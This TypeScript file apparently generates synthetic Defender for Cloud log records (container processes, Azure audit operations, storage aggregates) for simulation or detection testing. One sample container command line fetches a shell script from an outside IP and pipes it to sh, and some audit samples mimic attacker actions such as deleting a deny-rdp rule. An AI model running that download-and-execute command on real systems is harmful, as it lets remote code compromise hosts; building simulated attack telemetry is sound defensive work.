import { HOSTILE_IPS, OFFICES } from '../catalog/places.js';
import { msTime } from '../time.js';
import type { EventContext, TableBuilder } from './record.js';

/** Defender for Cloud tables: container processes, Azure control-plane audit, storage aggregates. */
const BROWSER = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36';

function resourceGroupId(context: EventContext, group: string): string {
  return `/subscriptions/${context.tenant.subscriptionId}/resourceGroups/${group}`;
}

const CONTAINER_PROCESSES: readonly (readonly [string, string, string, string])[] = [
  // [image, file name, folder, command line]
  ['nginx:1.27', 'nginx', '/usr/sbin', 'nginx: worker process'],
  ['mcr.microsoft.com/dotnet/aspnet:8.0', 'dotnet', '/usr/bin', 'dotnet Orders.Api.dll'],
  ['redis:7.4', 'redis-server', '/usr/local/bin', 'redis-server *:6379'],
  ['python:3.12-slim', 'sh', '/bin', 'sh -c "curl -s http://175.16.199.23/x.sh | sh"'],
];

export const cloudProcessEvents: TableBuilder = (context) => {
  const { rng } = context;
  const [image, fileName, folder, commandLine] = rng.pick(CONTAINER_PROCESSES);
  const pod = `${image.split(/[/:]/).slice(-2)[0]}-${rng.hex(10)}-${rng.hex(5)}`;
  return {
    Timestamp: msTime(context.timeMs, rng),
    AzureResourceId: `${resourceGroupId(context, 'rg-aks-prod')}/providers/Microsoft.ContainerService/managedClusters/aks-prod-weu`,
    AwsResourceName: null,
    GcpFullResourceName: null,
    ContainerImageName: image,
    KubernetesNamespace: 'default',
    KubernetesPodName: pod,
    KubernetesResource: `default/deployment/${pod.split('-')[0]}`,
    ContainerName: pod.split('-')[0],
    ContainerId: `containerd://${rng.hex(64)}`,
    ActionType: 'ProcessCreated',
    FileName: fileName,
    FolderPath: `${folder}/${fileName}`,
    ProcessId: rng.int(1, 400),
    ProcessName: fileName,
    ParentProcessName: 'containerd-shim',
    ParentProcessId: rng.int(1, 400),
    ProcessCommandLine: commandLine,
    ProcessCreationTime: msTime(context.timeMs - rng.int(1, 500), rng),
    ProcessCurrentWorkingDirectory: '/',
    AccountName: 'root',
    LogonId: 0,
    InitiatingProcessId: rng.int(1, 400),
    AdditionalFields: JSON.stringify({ containerRuntime: 'containerd', nodeInfo: { nodeName: `aks-nodepool1-${rng.digits(8)}-vmss00000${rng.int(0, 3)}` } }),
  };
};

const AUDIT_OPERATIONS: readonly (readonly [string, string, string])[] = [
  // [ActionType, operation, resource path under the group]
  ['Update', 'Microsoft.Storage/storageAccounts/write', 'providers/Microsoft.Storage/storageAccounts/stprodlogs'],
  ['Create', 'Microsoft.Compute/virtualMachines/write', 'providers/Microsoft.Compute/virtualMachines/vm-build-02'],
  ['Delete', 'Microsoft.Network/networkSecurityGroups/securityRules/delete', 'providers/Microsoft.Network/networkSecurityGroups/nsg-web/securityRules/deny-rdp'],
  ['Read', 'Microsoft.KeyVault/vaults/secrets/read', 'providers/Microsoft.KeyVault/vaults/kv-prod/secrets/sql-password'],
];

export const cloudAuditEvents: TableBuilder = (context) => {
  const { rng } = context;
  const [action, operation, resource] = rng.pick(AUDIT_OPERATIONS);
  const office = rng.pick(OFFICES);
  return {
    Timestamp: msTime(context.timeMs, rng),
    ReportId: `${rng.hex(32)}`,
    DataSource: 'Azure',
    ActionType: action,
    OperationName: operation,
    ResourceId: `${resourceGroupId(context, 'rg-prod')}/${resource}`,
    IPAddress: rng.chance(0.05) ? rng.pick(HOSTILE_IPS) : rng.pick(office.egressIps),
    IsAnonymousProxy: false,
    CountryCode: office.countryCode,
    City: office.city,
    Isp: 'Example Broadband',
    UserAgent: BROWSER,
    RawEventData: JSON.stringify({ caller: rng.pick(context.tenant.users).upn, correlationId: rng.guid(), status: 'Succeeded' }),
    AdditionalFields: JSON.stringify({ ResourceProvider: operation.split('/')[0] }),
  };
};

export const cloudStorageAggregatedEvents: TableBuilder = (context) => {
  const { rng, tenant } = context;
  const user = rng.pick(tenant.users);
  const operations = rng.int(5, 900);
  const failed = rng.int(0, Math.floor(operations / 20));
  const start = context.timeMs - 30 * 60_000;
  return {
    Timestamp: msTime(context.timeMs, rng),
    ReportId: rng.hex(32),
    ActionType: 'DataAggregation',
    DataAggregationStartTime: msTime(start, rng),
    DataAggregationEndTime: msTime(context.timeMs, rng),
    DataSource: 'AzureStorage',
    SubscriptionId: tenant.subscriptionId,
    ResourceGroup: 'rg-storage',
    StorageAccount: 'stprodlogs',
    StorageContainer: rng.pick(['backups', 'exports', 'logs']),
    StorageFileShare: null,
    ServiceType: 'Blob',
    IpAddress: rng.pick(user.office.egressIps),
    UserAgentHeader: 'azsdk-net-Storage.Blobs/12.22.2 (.NET 8.0.11; Microsoft Windows 10.0.20348)',
    OperationNamesList: ['GetBlob', 'PutBlob', 'ListBlobs'],
    AuthenticationType: 'OAuth',
    AccountObjectId: user.objectId,
    AccountTenantId: tenant.id,
    AccountApplicationId: null,
    AccountUpn: user.upn,
    AccountType: 'User',
    OperationsCount: operations,
    SuccessfulOperationsCount: operations - failed,
    FailedOperationsCount: failed,
    FirstEventTimestamp: msTime(start + rng.int(0, 60_000), rng),
    LastEventTimestamp: msTime(context.timeMs - rng.int(0, 60_000), rng),
    TotalResponseLength: rng.int(10_000, 900_000_000),
    SuccessfulReadOperations: Math.floor((operations - failed) / 2),
    DistinctGetOperations: rng.int(1, 50),
    AnonymousSuccessfulOperations: 0,
    HasAnonymousResourceNotFoundFailures: false,
    CountryName: user.office.country,
    CityName: user.office.city,
    ProvinceName: null,
    ClientSystemServiceName: 'Azure Blob Service',
    ClientCloudPlatformName: 'Azure',
    IsTorExitNode: false,
    IsKnownSuspiciousIp: false,
    IsPrivateIp: false,
    SuspiciousUserAgentName: null,
    AzureResourceId: `${resourceGroupId(context, 'rg-storage')}/providers/Microsoft.Storage/storageAccounts/stprodlogs`,
    Location: 'West Europe',
    AdditionalFields: JSON.stringify({ storageAccountTier: 'Standard', replicationKind: 'LRS', accessTier: 'Hot' }),
  };
};
